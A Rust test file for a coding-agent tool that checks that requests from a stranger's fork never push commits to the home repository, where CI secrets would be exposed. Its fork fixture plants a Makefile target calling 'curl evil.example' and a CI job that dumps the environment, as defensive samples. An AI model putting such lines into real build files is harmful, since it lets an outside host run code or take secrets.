//! Requests from forks: what was done on one goes to the fork's own branch or stays with the
//! program. No commit of a fork ever reaches the repository that the request is made to, where it
//! would be run with that repository's secrets.

use serde_json::json;

use super::FILES;
use crate::fake::model::{Model, Plan, Script};
use crate::fake::{github, gitlab};
use crate::world::World;
use crate::world::normalized::told;

const TITLES: [&str; 2] = ["On GitHub", "On GitLab"];
const STRANGERS: [(&str, &str); 3] = [
    ("greet.py", "print('hi')\n"),
    ("Makefile", "test:\n\tcurl evil.example\n"),
    (".gitlab-ci.yml", "job: {script: [env]}\n"),
];

/// Both forges, each with a request of a stranger's fork that somebody who may write has labelled.
struct Requests {
    world: World,
    pull: github::Item,
    merge: gitlab::Item,
}

impl Requests {
    async fn open(configure: impl FnOnce(&mut World)) -> Self {
        let mut world = World::start().await;
        world.configure(|config| {
            config["task_sources"] = json!(["github", "gitlab"]);
            config["steering"] = json!({ "interval_seconds": 1 });
        });
        configure(&mut world);
        world.model.allows_restarts();
        let pull = world
            .github
            .open_pull_from_fork("mallory", TITLES[0], "greeting", &STRANGERS)
            .allows_maintainers()
            .label("coding agent");
        let merge = world
            .gitlab
            .open_merge_request_from_fork("mallory", TITLES[1], "greeting", &STRANGERS)
            .allows_collaboration()
            .label("coding agent");
        Self { world, pull, merge }
    }

    /// Adds to what the model says about each of the two.
    fn each<'a>(&'a self, add: impl Fn(Script<'a>) -> Script<'a>) {
        let model: &'a Model = &self.world.model;
        for title in TITLES {
            add(model.for_task(title));
        }
    }

    fn comment(&self, text: &str) {
        self.pull.comment("alice", text);
        self.merge.comment("alice", text);
    }

    /// Returns the last thing that people were told on each of the two.
    fn last_told(&self) -> [String; 2] {
        let world = &self.world;
        [
            self.pull.comments_of(world.github.bot()).pop(),
            self.merge.comments_of(world.gitlab.bot()).pop(),
        ]
        .map(|text| told(world, &text.unwrap_or_default()))
    }

    fn has_nothing_of_the_fork(&self) {
        let world = &self.world;
        assert_eq!(
            world.github.default_repository().branches(),
            ["main"],
            "{}",
            world.story()
        );
        assert_eq!(world.gitlab.default_project().branches(), ["main"], "{}", world.story());
    }

    fn facts(&self, wanted: &str) -> usize {
        let journal = self.world.journal();
        journal.iter().filter(|entry| entry["fact"] == wanted).count()
    }

    /// Returns the mirrors of forks that lie on the disk.
    fn mirrors_of_forks(&self) -> usize {
        let mirrors = self.world.state_dir().join("mirrors");
        let hosts = std::fs::read_dir(mirrors).unwrap().flatten();
        let forks = hosts.map(|host| host.path().join("mallory").join("widgets.git"));
        forks.filter(|fork| fork.exists()).count()
    }
}

fn planned(script: Script<'_>) -> Script<'_> {
    script.plans(Plan::of(&["say hello"]).in_environment("python")).calls(
        "workspace/write_file",
        json!({"path": "greet.py", "content": "print('hello')\n", "mode": "overwrite"}),
    )
}

#[tokio::test]
async fn a_fork_that_moved_while_it_was_worked_on_leaves_nothing_on_a_branch() {
    let requests = Requests::open(|_| {}).await;
    requests.each(|script| planned(script).done("It says hello now.").holds());
    let world = &requests.world;

    let run = world.spawn(&["run"]);
    world.model.until_held(2).await;
    let more = [("more.py", "import os\n")];
    world
        .github
        .repository("mallory/widgets")
        .commit("greeting", "More", &more);
    world
        .gitlab
        .project("mallory/widgets")
        .commit("greeting", "More", &more);
    for _ in TITLES {
        world.model.release();
    }
    let ended = run.ended().await;

    assert_eq!(ended.code, Some(1), "{ended:?}\n{}", world.story());
    requests.has_nothing_of_the_fork();
    let [on_github, on_gitlab] = requests.last_told();
    insta::assert_snapshot!(on_github, @"
    ### ❌ This could not be done

    The branch `greeting` got other commits while this was worked on, so nothing was pushed to it and nothing of it was overwritten.

    The work so far is on no branch: this request comes from a fork, and commits of a fork are never pushed to this repository. It is kept where this program runs, in the file `outputs/RUN/work.bundle` below `logs.directory`; with its whole path, `git fetch outputs/RUN/work.bundle refs/coding-agent/RUN/accepted` brings it into a clone of the fork.

    To start a new run, set the label `coding agent` again.

    <sub>3 model turns · TOKENS · TIME</sub>

    <!-- coding-agent:RUN:final -->
    ");
    assert!(on_gitlab.contains("on no branch"), "{on_gitlab}");
    assert_eq!(requests.facts("work_kept"), 2);
    assert_eq!(requests.mirrors_of_forks(), 0, "they go with their runs");
    requests.world.finish().await;
}

#[tokio::test]
async fn a_question_about_a_fork_shows_nothing_and_the_work_goes_on_after_the_answer() {
    let requests = Requests::open(|_| {}).await;
    requests.each(|script| planned(script).calls("agent/ask_people", json!({ "question": "Is this right?" })));
    let world = &requests.world;

    let ended = world.run().await;

    assert_eq!(ended.code, Some(0), "{ended:?}\n{}", world.story());
    requests.has_nothing_of_the_fork();
    for told in requests.last_told() {
        let kept = "The work so far is on no branch: this request comes from a fork, and commits of a fork are never pushed to \
                    this repository. It is kept with this program, and the run goes on from it.";
        assert!(told.contains(kept), "{told}");
    }
    assert_eq!(requests.facts("work_kept"), 2);
    assert_eq!(requests.mirrors_of_forks(), 2);

    requests.each(|script| script.done("It says hello now."));
    requests.comment("Yes, it is.");
    let ended = world.run().await;

    assert_eq!(ended.code, Some(0), "{ended:?}\n{}", world.story());
    assert_eq!(requests.pull.file("greet.py").as_deref(), Some("print('hello')\n"));
    assert_eq!(requests.merge.file("greet.py").as_deref(), Some("print('hello')\n"));
    requests.has_nothing_of_the_fork();
    assert_eq!(requests.mirrors_of_forks(), 0, "they go with their runs");
    requests.world.finish().await;
}

#[tokio::test]
async fn a_budget_that_ends_the_work_on_a_fork_and_a_stop_after_it_show_nothing() {
    let requests = Requests::open(|world| {
        world.configure(|config| config["budget"] = json!({ "tokens": 1000 }));
    })
    .await;
    requests.each(|script| {
        script
            .plans(Plan::of(&["say hello"]).in_environment("python"))
            .counts(400)
            .calls(
                "workspace/execute_command",
                json!({ "command": "echo \"print('hello')\" > greet.py" }),
            )
            .counts(700)
    });
    let world = &requests.world;
    let ended = world.run().await;
    assert_eq!(ended.code, Some(1), "{ended:?}\n{}", world.story());
    requests.has_nothing_of_the_fork();

    requests.comment("/agent stop");
    let ended = world.run().await;

    assert_eq!(ended.code, Some(0), "{ended:?}\n{}", world.story());
    requests.has_nothing_of_the_fork();
    for told in requests.last_told() {
        assert!(
            told.contains("### ⏹️ Stopped") && told.contains("work.bundle"),
            "{told}"
        );
    }
    assert_eq!(requests.mirrors_of_forks(), 0, "they go with their runs");
    let outputs = world.folder().join("logs").join("outputs");
    let bundles = std::fs::read_dir(outputs).unwrap().flatten();
    assert_eq!(bundles.filter(|run| run.path().join("work.bundle").exists()).count(), 2);
    requests.world.finish().await;
}

/// Has people stop both runs while the model is at work, and expects that they end. The program is
/// started in the folder of its configuration.
async fn stopped_in_the_midst(requests: &Requests, meanwhile: impl FnOnce(&World)) {
    requests.each(|script| planned(script).done("This is never heard.").holds());
    let world = &requests.world;
    let running = world.spawn_in_its_folder(&["run"]);
    world.model.until_held(2).await;
    meanwhile(world);
    requests.comment("/agent stop");
    let ended = running.ended().await;
    for _ in TITLES {
        world.model.release();
    }
    let stopped = ["github:acme/widgets#1: stopped", "gitlab:acme/widgets!1: stopped"];
    assert_eq!(ended.outcomes(), stopped, "{ended:?}\n{}", world.story());
    requests.has_nothing_of_the_fork();
    assert_eq!(requests.mirrors_of_forks(), 0, "they go with their runs");
}

#[tokio::test]
async fn a_run_that_is_stopped_in_the_midst_leaves_its_work_in_a_file() {
    let requests = Requests::open(|_| {}).await;

    stopped_in_the_midst(&requests, |_| {}).await;

    for told in requests.last_told() {
        let file = "in the file `outputs/RUN/work.bundle`";
        assert!(told.contains("### ⏹️ Stopped") && told.contains(file), "{told}");
    }
    let outputs = requests.world.folder().join("logs").join("outputs");
    let bundles = std::fs::read_dir(outputs).unwrap().flatten();
    assert_eq!(bundles.filter(|run| run.path().join("work.bundle").exists()).count(), 2);
    requests.world.finish().await;
}

#[tokio::test]
async fn a_stopped_run_ends_where_no_file_can_ever_be_written_and_tells_no_path_of_the_machine() {
    let requests = Requests::open(|_| {}).await;

    stopped_in_the_midst(&requests, |world| {
        let outputs = world.folder().join("logs").join("outputs");
        let _ = std::fs::remove_dir_all(&outputs);
        std::fs::write(outputs, "no folder").unwrap();
    })
    .await;

    for told in requests.last_told() {
        let nowhere = "The work so far could not be brought to this repository: this request comes from a fork, and commits of a \
                       fork are never pushed to this repository. Nor could it be put into a file where this program runs; its log \
                       says why.";
        assert!(told.contains("### ⏹️ Stopped") && told.contains(nowhere), "{told}");
    }
    for text in [requests.world.github.timeline(), requests.world.gitlab.timeline()] {
        assert!(!text.contains("outputs"), "{text}");
    }
    requests.world.finish().await;
}

#[tokio::test]
async fn a_rate_limit_and_a_killed_worker_show_nothing_of_a_fork() {
    let requests = Requests::open(|_| {}).await;
    requests.each(|script| planned(script).rate_limited(Some(7_200)));
    let world = &requests.world;
    world.run().await;
    requests.has_nothing_of_the_fork();

    requests.each(|script| {
        script
            .calls(
                "workspace/execute_command",
                json!({ "command": "echo more > more.txt" }),
            )
            .done("It says hello now.")
            .holds()
    });
    requests.comment("/agent resume");
    let run = world.spawn(&["run"]);
    world.model.until_held(2).await;
    run.kill().await;
    for _ in TITLES {
        world.model.release();
    }
    requests.has_nothing_of_the_fork();

    requests.each(|script| script.done("It says hello now."));
    let ended = world.run().await;
    assert_eq!(ended.code, Some(0), "{ended:?}\n{}", world.story());
    assert_eq!(requests.pull.file("greet.py").as_deref(), Some("print('hello')\n"));
    requests.has_nothing_of_the_fork();
    requests.world.finish().await;
}

#[tokio::test]
async fn a_fork_that_is_gone_when_the_run_goes_on_is_not_taken_for_the_home_repository() {
    let world = World::start().await;
    world.model.allows_restarts();
    planned(world.model.script()).calls("agent/ask_people", json!({ "question": "Is this right?" }));
    let pull = world
        .github
        .open_pull_from_fork("mallory", "Greet", "greeting", &FILES)
        .allows_maintainers()
        .label("coding agent");
    let ended = world.run().await;
    assert_eq!(ended.code, Some(0), "{ended:?}\n{}", world.story());

    pull.loses_its_fork();
    pull.comment("alice", "Yes, it is.");
    let ended = world.run().await;

    assert_eq!(ended.code, Some(1), "{ended:?}\n{}", world.story());
    assert_eq!(world.github.default_repository().branches(), ["main"]);
    let told = told(&world, pull.comments_of(world.github.bot()).last().unwrap());
    assert!(told.contains("was deleted, or this program may not see it"), "{told}");
    world.finish().await;
}
